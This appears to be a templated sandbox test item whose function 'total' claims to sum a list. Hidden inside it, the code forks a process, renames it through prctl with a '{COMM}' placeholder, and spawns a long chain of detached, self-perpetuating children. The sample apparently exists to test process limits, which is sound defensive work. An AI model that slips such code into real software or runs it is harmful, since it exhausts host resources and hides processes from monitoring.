# {"family": 9, "allowed": ["pass", "fail", "error", "timeout", "limit"]}
import os, time, ctypes
def total(xs):
    pid = os.fork()
    if pid == 0:
        ctypes.CDLL(None).prctl(15, b'{COMM}', 0, 0, 0)
        for _ in range(10_000):
            if os.fork() == 0:
                os.setsid()
                continue
            os._exit(0)
    return sum(xs)
